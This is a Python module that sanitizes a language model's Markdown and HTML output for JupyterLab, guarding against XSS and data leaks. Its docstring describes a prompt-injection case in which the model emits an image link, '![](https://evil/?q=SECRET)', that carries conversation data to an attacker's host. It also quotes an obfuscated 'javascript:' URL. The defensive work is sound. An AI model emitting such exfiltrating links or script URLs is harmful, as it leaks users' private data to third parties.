"""Model output made safe for the browser: Markdown that cannot carry active HTML, and allow-listed HTML.

Why: outputs made in the live session are trusted by JupyterLab, and the kernel feeds untrusted text to the
model on purpose (%load, {var}, recall), so an answer is attacker-controlled text (issue 13).

HTML (`--format html`) goes through nh3 (ammonia) with an allow-list: ammonia's harmless tags and attributes
without images, URL schemes http, https and mailto, links opened with rel="noopener noreferrer".

Markdown cannot go through an HTML sanitizer: it would turn `a < b` into `a &lt; b` inside code, `> quote`
into `&gt; quote` and `<https://x>` into text. And no renderer can be mirrored exactly (JupyterLab's marked,
nbconvert's mistune, VS Code's markdown-it all differ at the edges), so the source is not checked against one
renderer's parse but rewritten into a shape that every CommonMark renderer reads the same way:

- Fenced code blocks are re-emitted canonically: a blank line before, so the fence cannot continue a
  paragraph; a fence longer than any fence-like run inside, so nothing inside can close it (marked even
  closes on "```~"); no line of the content indented less than the fence, so it cannot end an enclosing list
  item; a plain-word info string; always closed. Their content stays verbatim: `<script>` in a code block
  is shown, not removed.
- Every other line that looks like a fence (after `>` or a list marker, tab-indented, a backtick in the info
  string) gets its first fence character escaped, so no renderer opens a code block the sanitizer did not
  see, which a line of "code" could then close.
- Outside code, `<` becomes `&lt;`, except autolinks to http/https/mailto and a few inline tags without
  attributes (`<sub>`, `<br>`, ...), and those never at the start of a block, where they would open an HTML
  block. No raw HTML block can exist, so nothing else can hide HTML from the rewrite.
- Inline code spans stay as they are when their content is inert as plain text; otherwise they become
  `<code>` with every punctuation character as a numeric character reference, which reads the same.
- Link and image destinations (`](url`, `]: url`) with a scheme other than http/https/mailto lose their link
  syntax and show as text, after undoing entity and backslash escapes (`jav&#x61;script:`) as a browser would.
- Images become plain links: an answer must not make the browser fetch anything by itself, since an image
  URL can carry data out of the conversation (a prompt-injected `![](https://evil/?q=SECRET)`).
- Math keeps working: inside `$...$` / `$$...$$` a `<` becomes `\\lt ` (what MathJax reads as `<`), and
  `\\href` / `\\url` with a non-allowed scheme get a second backslash (no link in TeX nor in Markdown).
  JupyterLab also runs MathJax with its Safe extension, which filters those URLs; this does not rely on it.

Any mistake in spotting code or math here costs looks (a `&lt;` shown inside code), never safety: whatever the
sanitizer took for prose is escaped, and what it passes through unescaped is either inert wherever a renderer
puts it or a canonical code block, which is code to every reader. tests/browser/test_xss_browser.py feeds
JupyterLab's own renderer the documents that make renderers disagree, and random ones.
"""

from __future__ import annotations

import bisect
import html
import re
from collections import defaultdict

import nh3

ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
# MathJax typesets text between two "$" in any output: these classes opt an element out (raw text, previews).
NO_MATH = "tex2jax_ignore mathjax_ignore"
# Inline tags that carry no attributes, hence no handlers and no URLs: models use them in prose and tables.
INLINE_TAGS = frozenset({"b", "i", "em", "strong", "u", "s", "del", "ins", "mark", "small", "sub", "sup",
                         "kbd", "var", "samp", "code", "br", "wbr"})
# nh3's (ammonia's) default allow-list without images (no fetch without a click: see above). nh3>=0.2.15
# has ALLOWED_TAGS / ALLOWED_ATTRIBUTES and clean(tags=, attributes=, url_schemes=, link_rel=).
HTML_TAGS = frozenset(nh3.ALLOWED_TAGS - {"img", "map", "area"})
HTML_ATTRIBUTES = {tag: set(attrs) for tag, attrs in nh3.ALLOWED_ATTRIBUTES.items() if tag in HTML_TAGS}

_OPEN_FENCE = re.compile(r"( *)(`{3,}|~{3,})(.*)")
_CLOSE_FENCE = re.compile(r"( *)(`{3,}|~{3,})[ \t]*")
# A fence after container markers (blockquote `>`, list bullets and numbers) or after tabs.
_FENCE_LIKE = re.compile(r"((?:[ \t]*(?:>|(?:[-+*]|\d{1,9}[.)])(?=[ \t])))*[ \t]*)(`{3}|~{3})")
_INFO = re.compile(r"[\w+#.-]*")
_BLANK_LINE = re.compile(r"\n[ \t]*(?=\n)")
_TOKEN = re.compile(
    r"(?=[\\`$<!\]])"  # the characters a token can start with: lets the scan skip plain text fast
    r"(?:(?P<macro>\\(?:href|url)(?![A-Za-z]))"
    r"|(?P<escape>\\[!-/:-@\[-`{-~])"  # a backslash escape of ASCII punctuation: one literal character
    r"|(?P<ticks>`+)"
    r"|(?P<dollars>\$\$?)"
    r"|(?P<lt><)"
    r"|(?P<bang>!(?=\[))"
    r"|(?P<bracket>\](?=[(:])))"
)
# No brackets inside: marked reads "[x<https://a/](javascript:...)>" as a link whose text holds the "<".
_AUTOLINK = re.compile(r"<(?:(?:https?://|mailto:)[^\s<>\"'`\\\[\]\x00-\x1f]*|[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+)>",
                       re.IGNORECASE)
_TAG = re.compile(r"</?([A-Za-z]+)[ \t]*/?>")
_BLOCK_START = re.compile(r"[ \t>*+\-\d.)]*")  # only container markers before it: the tag would open a block
_MARKUP = re.compile(r"[<\[\]]")  # what would be active in a code span's text read as prose
_DESTINATION = re.compile(r"\s*(\S*)")
_MACRO_ARGUMENT = re.compile(r"\s*\{([^{}]*)\}")
_BACKSLASH_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f\s]")  # browsers drop tabs and newlines anywhere, C0 at the ends
_SCHEME = re.compile(r"([A-Za-z][A-Za-z0-9+.\-]*):")


def url_is_safe(url: str) -> bool:
    """True for relative URLs and http/https/mailto, read the way a browser will see them after Markdown's
    backslash escapes and HTML's character references are undone (repeatedly: a renderer may decode once and
    the browser again)."""
    value = url
    for _ in range(5):
        decoded = html.unescape(_BACKSLASH_ESCAPE.sub(r"\1", value))
        if decoded == value:
            break
        value = decoded
    value = _URL_IGNORED.sub("", value).lstrip("<")
    scheme = _SCHEME.match(value)
    return scheme is None or scheme.group(1).lower() in ALLOWED_SCHEMES


def sanitize_html(text: str) -> str:
    """An HTML answer with only allow-listed tags, attributes and URL schemes (nh3), links opened safely."""
    cleaned = nh3.clean(text, tags=set(HTML_TAGS), attributes=HTML_ATTRIBUTES, url_schemes=set(ALLOWED_SCHEMES),
                        link_rel="noopener noreferrer", strip_comments=True)
    return _TOKEN.sub(lambda m: _unsafe_macro(cleaned, m) if m.lastgroup == "macro" else m.group(), cleaned)


def fence(text: str, info: str) -> str:
    """`text` as a fenced code block that no line of it can close."""
    longest = max((len(m.group()) for m in re.finditer(r"`+", text)), default=0)
    marks = "`" * max(3, longest + 1)
    return f"{marks}{info}\n{text}\n{marks}"


def sanitize_markdown(text: str) -> str:
    """Markdown that renders as the model meant, minus anything active: see the module docstring."""
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    out: list[str] = []
    prose: list[str] = []
    i = 0
    while i < len(lines):
        opening = _OPEN_FENCE.fullmatch(lines[i])
        if opening is None or (opening.group(2)[0] == "`" and "`" in opening.group(3)):
            prose.append(_defuse_fence_like(lines[i]))
            i += 1
            continue
        if prose:
            out.extend(_Inline("\n".join(prose)).render().split("\n"))
            prose = []
        end = _closing_line(lines, i)
        _emit_code_block(out, opening, lines[i + 1:end])
        i = end + 1
    if prose:
        out.extend(_Inline("\n".join(prose)).render().split("\n"))
    return "\n".join(out)


def _defuse_fence_like(line: str) -> str:
    found = _FENCE_LIKE.match(line)
    if found is None:
        return line
    return line[:found.end(1)] + "\\" + line[found.end(1):]


def _closing_line(lines: list[str], start: int) -> int:
    """The index of the line that closes the fence opened at `start` (len(lines) when it is never closed)."""
    opening = _OPEN_FENCE.fullmatch(lines[start])
    assert opening is not None
    indent, marks = len(opening.group(1)), opening.group(2)
    for j in range(start + 1, len(lines)):
        closing = _CLOSE_FENCE.fullmatch(lines[j])
        if (closing and closing.group(2)[0] == marks[0] and len(closing.group(2)) >= len(marks)
                and len(closing.group(1)) <= indent + 3):
            return j
    return len(lines)


def _indent(line: str) -> int:
    return len(line) - len(line.lstrip(" \t"))  # a tab counts as one column: an underestimate is safe


def _emit_code_block(out: list[str], opening: re.Match[str], content: list[str]) -> None:
    char = opening.group(2)[0]
    indent = min([len(opening.group(1))] + [_indent(line) for line in content if line.strip()])
    runs = [len(line.lstrip(" \t")) - len(line.lstrip(" \t").lstrip(char)) for line in content]
    marks = char * max(len(opening.group(2)), max(runs, default=0) + 1)
    info = _INFO.match(opening.group(3).strip()).group()  # the language only: nothing for a renderer to parse
    if out and out[-1].strip():
        out.append("")  # a fence must not be read as a paragraph's continuation by any renderer
    out.append(" " * indent + marks + info)
    out.extend(content)
    out.append(" " * indent + marks)


def _unsafe_macro(text: str, macro: re.Match[str]) -> str:
    """`\\href{url}` / `\\url{url}` kept when the URL is safe; otherwise its backslash is doubled, which makes it
    a literal backslash in Markdown and a line break plus letters in TeX: no link either way."""
    argument = _MACRO_ARGUMENT.match(text, macro.end())
    if argument and url_is_safe(argument.group(1)):
        return macro.group()
    return "\\" + macro.group()


class _Inline:
    """One stretch of prose (no fenced code) rewritten token by token, left to right."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.blank_lines = [m.start() for m in _BLANK_LINE.finditer(text)]
        self.tick_runs: dict[int, list[int]] = defaultdict(list)
        for run in re.finditer(r"`+", text):
            self.tick_runs[len(run.group())].append(run.start())

    def render(self) -> str:
        return self._rewrite(0, len(self.text), math=False)

    def _paragraph_end(self, pos: int) -> int:
        index = bisect.bisect_left(self.blank_lines, pos)
        return self.blank_lines[index] if index < len(self.blank_lines) else len(self.text)

    def _rewrite(self, start: int, end: int, math: bool) -> str:
        parts: list[str] = []
        pos = start
        while True:
            token = _TOKEN.search(self.text, pos, end)
            if token is None:
                parts.append(self.text[pos:end])
                return "".join(parts)
            parts.append(self.text[pos:token.start()])
            kind = token.lastgroup
            if kind == "ticks" and not math:
                replacement, pos = self._code_span(token)
            elif kind == "dollars" and not math:
                replacement, pos = self._math(token, end)
            elif kind == "lt" and not math:
                replacement, pos = self._angle(token.start())
            else:
                replacement, pos = self._simple(token, kind or "", math), token.end()
            parts.append(replacement)

    def _simple(self, token: re.Match[str], kind: str, math: bool) -> str:
        lt = "\\lt " if math else "&lt;"
        if kind == "macro":
            return _unsafe_macro(self.text, token)
        if kind == "escape":
            return lt if token.group() == "\\<" else token.group()
        if kind == "lt":
            return lt
        if kind == "bang":
            return "\\!"
        if kind == "bracket":
            destination = _DESTINATION.match(self.text, token.end() + 1)
            return "]" if destination is None or url_is_safe(destination.group(1)) else "]\\"
        return token.group()  # backticks and dollars inside math are TeX's

    def _angle(self, pos: int) -> tuple[str, int]:
        """`<` outside code and math: a safe autolink or an allowed inline tag as it is, else `&lt;`."""
        autolink = _AUTOLINK.match(self.text, pos)
        if autolink and url_is_safe(autolink.group()[1:-1]):
            return autolink.group(), autolink.end()
        tag = _TAG.match(self.text, pos)
        if tag and tag.group(1).lower() in INLINE_TAGS:
            line_start = self.text.rfind("\n", 0, pos) + 1
            if not _BLOCK_START.fullmatch(self.text, line_start, pos):
                return tag.group(), tag.end()
        return "&lt;", pos + 1

    def _code_span(self, token: re.Match[str]) -> tuple[str, int]:
        ticks = token.group()
        starts = self.tick_runs[len(ticks)]
        index = bisect.bisect_left(starts, token.end())
        limit = self._paragraph_end(token.end())
        if index == len(starts) or starts[index] >= limit:
            return ticks, token.end()  # no closing run in this paragraph: literal backticks
        close = starts[index]
        content = self.text[token.end():close]
        if not _MARKUP.search(content):
            return ticks + content + ticks, close + len(ticks)
        return _code_html(content), close + len(ticks)

    def _math(self, token: re.Match[str], end: int) -> tuple[str, int]:
        delimiter = token.group()
        limit = min(self._paragraph_end(token.end()), end)
        tick = self.text.find("`", token.end(), limit)
        limit = tick if tick >= 0 else limit
        close = token.end()
        while True:
            close = self.text.find(delimiter, close, limit)
            if close < 0:
                return delimiter, token.end()
            if self.text[close - 1] != "\\" and (len(delimiter) == 2 or self.text[close + 1:close + 2] != "$"):
                break
            close += len(delimiter)
        if close == token.end():
            return delimiter, token.end()
        inner = self._rewrite(token.end(), close, math=True)
        return delimiter + inner + delimiter, close + len(delimiter)


def _code_html(content: str) -> str:
    """A code span as <code>, its punctuation as character references: inert wherever a renderer puts it."""
    content = content.replace("\n", " ")
    if len(content) > 2 and content[0] == content[-1] == " " and content.strip():
        content = content[1:-1]
    return "<code>" + "".join(c if c.isalnum() or c == " " else f"&#{ord(c)};" for c in content) + "</code>"
